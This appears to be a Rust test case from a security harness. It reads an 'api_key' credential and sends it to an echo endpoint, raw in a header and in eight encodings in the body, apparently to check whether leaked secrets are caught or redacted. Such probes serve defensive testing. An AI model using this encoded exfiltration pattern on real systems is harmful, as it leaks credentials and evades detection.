//! Sends its key in every encoding to a destination that sends everything back, and tells what it got.

use hostile_kit::{Encoding, Failure, Given, Hostile, Part, body, credential, http, text};

#[derive(Default)]
struct Echo;

const ENCODINGS: [Encoding; 8] = [
    Encoding::Raw,
    Encoding::Base64,
    Encoding::Base64url,
    Encoding::Hex,
    Encoding::Percent,
    Encoding::Form,
    Encoding::Json,
    Encoding::Xml,
];

impl Hostile for Echo {
    fn deliver(&self, given: &Given<'_>) -> Result<String, Failure> {
        let (request, key) = (given.post("/echo"), credential("api_key")?);
        request.header("x-key", &[Part::Secret((&key, Encoding::Raw))])?;
        for encoding in ENCODINGS {
            request.body(&[Part::Secret((&key, encoding)), text(" ")])?;
        }
        let answer = http::send(request)?;
        let header = answer.headers().into_iter().find(|(name, _)| name == "x-key");
        Ok(format!("{} {}", header.map_or_else(String::new, |(_, value)| value), body(&answer)))
    }
}

hostile_kit::hostile!(Echo);
